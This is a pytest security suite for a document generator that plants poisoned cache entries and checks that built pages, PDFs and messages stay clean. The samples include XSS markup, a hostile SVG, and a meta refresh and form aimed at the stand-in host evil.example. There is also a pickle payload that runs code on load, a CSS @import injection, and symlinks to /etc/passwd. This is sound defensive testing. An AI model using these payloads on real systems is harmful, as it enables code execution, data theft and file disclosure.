"""A cache is untrusted input: whoever can write it (a shared CI cache, a folder that came
with a content bundle) must not be able to run code, put markup or links into a document,
have a file outside the content folder published, or crash a check. Each test plants what
an attacker would and asserts on what a reader would see: the built files, the messages,
the exit code."""

from __future__ import annotations

import hashlib
import json
import os
import pickle
import subprocess
import sys
from pathlib import Path

import pytest
from pypdf import PdfReader

from conftest import ROOT, TEMPLATES
from test_charts import add_chart

HOSTILE = ('<meta http-equiv="refresh" content="0;url=https://evil.example/">'
           '<form action="https://evil.example/"><input name="p"></form>'
           '<img src="x" onerror="alert(1)"><script>alert(2)</script>'
           '<a href="javascript:alert(3)">poisoned-link</a><i>poisoned-note</i> ')


def brief(content: Path, cache: Path, *args: str, env: dict | None = None):
    environment = {**os.environ, "BRIEF_CACHE_DIR": str(cache), **(env or {})}
    return subprocess.run(
        [sys.executable, "-m", "generator", "--content", str(content), "--templates",
         str(TEMPLATES), *args], capture_output=True, text=True, env=environment, cwd=ROOT)


def build_memo(content: Path, cache: Path, out: Path, *formats: str):
    options = [option for fmt in formats for option in ("-f", fmt)]
    return brief(content, cache, "build", "harbor-memo", "-a", "staff", "-l", "full",
                 *options, "-o", str(out), "-j", "1", "--force")


def assert_no_hostile_markup(html: str) -> None:
    assert html.count("http-equiv") == 1  # the page's own Content-Security-Policy
    for found in ('http-equiv="refresh"', "onerror", "<form", "<script>alert", "javascript:",
                  "<foreignObject", "evil.example"):
        assert found not in html, found


def pdf_links(path: Path) -> list[str]:
    """Return the URI of every link annotation in a PDF."""
    uris = []
    for page in PdfReader(path).pages:
        for annotation in page.get("/Annots") or []:
            action = annotation.get_object().get("/A")
            if action and "/URI" in action:
                uris.append(str(action["/URI"]))
    return uris


def test_a_planted_jinja_bytecode_file_runs_no_code(sample, tmp_path):
    """Jinja's bytecode cache unpickles its files; brief keeps none, and reads none."""
    import jinja2

    marker = tmp_path / "code-ran"
    payload = jinja2.bccache.bc_magic + pickle.dumps(_Mkdir(str(marker)))
    cache = tmp_path / "cache"
    keys = [jinja2.BytecodeCache().get_cache_key(t.relative_to(TEMPLATES).as_posix(), str(t))
            for t in TEMPLATES.rglob("*.html")]
    for folder in (cache / "templates", sample.parent / ".brief-cache" / "templates"):
        folder.mkdir(parents=True)
        for key in keys:
            (folder / f"__jinja2_{key}.cache").write_bytes(payload)
    # The payload is real: Jinja's own cache would run it.
    kept = jinja2.FileSystemBytecodeCache(str(cache / "templates"))
    kept.load_bytecode(jinja2.bccache.Bucket(jinja2.Environment(), keys[0], ""))
    assert marker.is_dir()
    marker.rmdir()

    checked = brief(sample, cache, "check")
    built = build_memo(sample, cache, tmp_path / "out", "html")
    assert (checked.returncode, built.returncode) == (0, 0), checked.stderr + built.stderr
    assert not marker.exists()


class _Mkdir:
    def __init__(self, path: str):
        self.path = path

    def __reduce__(self):
        return os.mkdir, (self.path,)


def test_the_default_cache_is_per_user_never_beside_the_content(sample, tmp_path_factory):
    home = tmp_path_factory.mktemp("home")
    xdg = tmp_path_factory.mktemp("xdg")
    environment = {key: value for key, value in os.environ.items()
                   if key not in ("BRIEF_CACHE_DIR", "XDG_CACHE_HOME")}
    environment["HOME"] = str(home)
    result = subprocess.run(
        [sys.executable, "-m", "generator", "--content", str(sample), "--templates",
         str(TEMPLATES), "check"], capture_output=True, text=True, env=environment, cwd=ROOT)
    assert result.returncode == 0, result.stderr
    assert list((home / ".cache" / "brief" / "schema").glob("table-*.json"))
    assert sorted(p.name for p in sample.parent.iterdir()) == ["content"]
    assert not list(sample.rglob(".brief-cache"))

    environment["XDG_CACHE_HOME"] = str(xdg)
    assert subprocess.run(
        [sys.executable, "-m", "generator", "--content", str(sample), "--templates",
         str(TEMPLATES), "check"], capture_output=True, env=environment,
        cwd=ROOT).returncode == 0
    assert list((xdg / "brief" / "scans").glob("table-*.json"))
    assert sorted(p.name for p in sample.parent.iterdir()) == ["content"]


def test_a_poisoned_citation_reaches_neither_the_page_nor_the_pdf(sample, tmp_path):
    cache = tmp_path / "cache"
    first = build_memo(sample, cache, tmp_path / "one", "html")
    assert first.returncode == 0, first.stderr
    entries = list((cache / "citations").rglob("*.json"))
    assert entries
    for entry in entries:
        kept = json.loads(entry.read_text("utf-8"))
        kept = {part: [HOSTILE + text for text in kept[part]] for part in kept}
        entry.write_text(json.dumps(kept), "utf-8")

    again = build_memo(sample, cache, tmp_path / "two", "html", "pdf")
    assert again.returncode == 0, again.stderr
    page = (tmp_path / "two" / "harbor-memo" / "staff-full.html").read_text("utf-8")
    assert "poisoned-note" in page  # the cache was read, its markup cleaned
    assert_no_hostile_markup(page)
    links = pdf_links(tmp_path / "two" / "harbor-memo" / "staff-full.pdf")
    assert not [uri for uri in links if not uri.startswith(("http:", "https:", "mailto:"))]


EVIL_SVG = ('<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
            ' class="chart-svg" role="img" aria-labelledby="@title">'
            '<foreignObject><meta http-equiv="refresh" content="0;url=https://evil.example/"/>'
            '</foreignObject><image href="https://evil.example/x.png" onerror="alert(1)"/>'
            '<a xlink:href="javascript:alert(1)"><text>poisoned-chart</text></a></svg>')


def test_a_poisoned_chart_drawing_is_drawn_again(sample, tmp_path):
    add_chart(sample)
    cache = tmp_path / "cache"
    first = build_memo(sample, cache, tmp_path / "one", "html")
    assert first.returncode == 0, first.stderr
    entries = list((cache / "charts").rglob("*.json"))
    assert entries
    for entry in entries:
        entry.write_text(json.dumps(EVIL_SVG), "utf-8")

    again = build_memo(sample, cache, tmp_path / "two", "html", "pdf")
    assert again.returncode == 0, again.stderr
    page = (tmp_path / "two" / "harbor-memo" / "staff-full.html").read_text("utf-8")
    assert_no_hostile_markup(page)
    assert "poisoned-chart" not in page and 'class="chart-svg"' in page
    assert page == (tmp_path / "one" / "harbor-memo" / "staff-full.html").read_text("utf-8")
    links = pdf_links(tmp_path / "two" / "harbor-memo" / "staff-full.pdf")
    assert not [uri for uri in links if not uri.startswith(("http:", "https:", "mailto:"))]
    assert all(json.loads(entry.read_text("utf-8")) != EVIL_SVG for entry in entries)


def test_an_emptied_image_list_never_publishes_a_file_outside(sample, tmp_path):
    secret = tmp_path / "secret.txt"
    secret.write_text("root:x:0:0:the-secret-line\n")
    (sample / "images" / "secret.png").symlink_to(secret)
    topic = sample / "topics" / "harbor-overview.md"
    topic.write_text(topic.read_text("utf-8") + "\n![A chart](images/secret.png)\n", "utf-8")
    cache = tmp_path / "cache"
    first = brief(sample, cache, "check")
    assert first.returncode == 1 and "outside the content folder" in first.stdout + first.stderr
    (table,) = (cache / "scans").glob("table-*.json")
    scans = json.loads(table.read_text("utf-8"))
    assert any(kept[3] for kept in scans.values())
    for kept in scans.values():
        kept[3] = []  # no images
    table.write_text(json.dumps(scans), "utf-8")

    for result in (brief(sample, cache, "check"),
                   build_memo(sample, cache, tmp_path / "out", "html")):
        said = result.stdout + result.stderr
        assert result.returncode == 1, said
        assert "harbor-overview.md:" in said
        assert "'images/secret.png' is outside the content folder" in said
        assert "Traceback" not in said
    assert not (tmp_path / "out" / "harbor-memo" / "staff-full.html").exists()


def test_an_image_is_checked_again_before_it_is_inlined(tmp_path):
    """Whatever validation was told, the page's image is checked as it is read."""
    from generator.errors import BuildError
    from generator.render import inline_image

    root = tmp_path / "content"
    root.mkdir()
    (root / "out.png").symlink_to("/etc/passwd")
    (root / "big.png").write_bytes(b"\x89PNG" + b"\0" * 2000)
    (root / "fine.png").write_bytes(b"\x89PNG")
    with pytest.raises(BuildError, match="'out.png' is outside the content folder"):
        inline_image(root, 1024, "out.png")
    with pytest.raises(BuildError, match="over the 1,024-byte limit"):
        inline_image(root, 1024, "big.png")
    with pytest.raises(BuildError, match="not found"):
        inline_image(root, 1024, "missing.png")
    assert inline_image(root, 1024, "fine.png") == "data:image/png;base64,iVBORw=="


def mark_valid(cache: Path, path: Path, kind: str) -> None:
    """Write into the table of valid files that this file, as it is now, is valid."""
    from generator.cache import DiskCache
    from generator.schemacheck import schema_digest

    (table,) = (cache / "schema").glob("table-*.json")
    kept = json.loads(table.read_text("utf-8"))
    digest = hashlib.sha256(path.read_bytes()).hexdigest()
    kept[DiskCache.key("valid", kind, digest, schema_digest(kind))] = True
    table.write_text(json.dumps(kept), "utf-8")


@pytest.mark.parametrize("kind, name, old, new, said", [
    ("brief", "briefs/harbor-memo.yaml", "date:", "dated:", "missing required field 'date'"),
    ("topic", "topics/lighthouse-costs.md", "title:", "title: [5]\nx:", "title"),
    ("audience", "audiences/staff.yaml", "name:", "name: {a: 1}\nx:", "name"),
    # builds, but not of the declared types: caught by the shape check
    ("topic", "topics/lighthouse-costs.md", "title: Paying", "title: [5] #",
     "title"),
    ("audience", "audiences/staff.yaml", "name: Committee staff", "name: [1, 2]", "name"),
])
def test_an_invalid_file_marked_valid_is_reported_not_a_traceback(sample, tmp_path, kind,
                                                                  name, old, new, said):
    cache = tmp_path / "cache"
    assert brief(sample, cache, "check").returncode == 0
    path = sample / name
    text = path.read_text("utf-8")
    path.write_text(text.replace(old, new, 1), "utf-8")
    mark_valid(cache, path, kind)

    for result in (brief(sample, cache, "check"),
                   build_memo(sample, cache, tmp_path / "out", "html")):
        said_all = result.stdout + result.stderr
        assert result.returncode == 1, said_all
        assert "Traceback" not in said_all
        assert f"{name}:" in said_all and said in said_all


def test_a_tampered_font_in_the_cache_is_made_again(tmp_path, monkeypatch):
    from generator import cjkfonts, fontcache, fonts

    monkeypatch.setenv("BRIEF_CACHE_DIR", str(tmp_path))
    fontcache._covered_table.cache_clear()
    try:
        woffs = [face.woff for face in fonts.faces()][:len(fonts.SUBSETS)]
        fontcache.merged_copy(woffs).write_bytes(b"not a font")
        again = fontcache.merged_copy(woffs).read_bytes()
        assert again.startswith(b"\x00\x01\x00\x00") and len(again) > 10_000  # a TrueType

        table = fontcache._covered_table()
        path = fontcache.merged_copy(woffs)
        wanted = "U+0000-00FF"
        found = fontcache.covered(path, wanted)
        table.kept = {key: "U+0041; } @import url(https://evil.example/)"
                      for key in table.used}
        table.used = {}
        assert fontcache.covered(path, wanted) == found
    finally:
        fontcache._covered_table.cache_clear()

    cut = cjkfonts.subsets("日本")
    if not cut:
        pytest.skip("no Noto CJK fonts installed")
    kept = list((tmp_path / "fonts").glob("cjk-*.woff2"))
    assert kept
    for path in kept:
        path.write_bytes(b"wOF2 planted")
    again = cjkfonts.subsets("日本")
    assert again.keys() == cut.keys()
    assert all(data.startswith(b"wOF2") and len(data) > 100
               for name, data in again.items() if name.endswith(".woff2"))
    assert all(path.read_bytes() != b"wOF2 planted" for path in kept)


def test_every_chart_the_drawer_makes_passes_the_drawing_allow_list(tmp_path):
    """Else every kept drawing would be thrown away and drawn again on each build."""
    import shutil

    from generator import charts, chartsvg
    from generator.load import load_content
    from generator.sanitise import svg_is_safe

    shutil.copytree(ROOT / "content", tmp_path / "content")
    add_chart(tmp_path / "content", "okinawa-share", """type: line
title: A line
alt: Eighty-five facilities in Japan, thirty-three of them on Okinawa.
unit: count
categories: [All of Japan, Okinawa]
series:
  - name: Facilities
    values: [{fact: usfj-exclusive-facilities}, {fact: usfj-okinawa-facilities}]
""", topic="us-japan-alliance")
    add_chart(tmp_path / "content", "facility-split", """type: stacked-bar
title: A stack
alt: Eighty-five facilities in Japan, thirty-three of them on Okinawa.
unit: count
categories: [All of Japan]
series:
  - name: Okinawa
    values: [{fact: usfj-okinawa-facilities}]
  - name: Elsewhere
    values: [52]
""", topic="us-japan-alliance")
    content = load_content(tmp_path / "content").content
    assert {chart.type for chart in content.charts.values()} == set(chartsvg.DRAWERS)
    for chart in content.charts.values():
        data = charts.resolve(chart, content.facts)
        assert svg_is_safe(chartsvg._clean(chartsvg._draw(data, "en"))), chart.id
    assert not svg_is_safe(EVIL_SVG)


def test_a_scan_that_hides_a_citation_ends_in_a_message(sample, tmp_path):
    topic = sample / "topics" / "lighthouse-costs.md"
    topic.write_text(topic.read_text("utf-8") + "\nAs shown [@no-such-source].\n", "utf-8")
    cache = tmp_path / "cache"
    assert brief(sample, cache, "check").returncode == 1
    (table,) = (cache / "scans").glob("table-*.json")
    scans = json.loads(table.read_text("utf-8"))
    for kept in scans.values():
        kept[0] = [c for c in kept[0] if c[0] != "no-such-source"]
    table.write_text(json.dumps(scans), "utf-8")

    built = build_memo(sample, cache, tmp_path / "out", "html")
    said = built.stdout + built.stderr
    assert built.returncode == 1, said
    assert "unknown source 'no-such-source'" in said and "Traceback" not in said
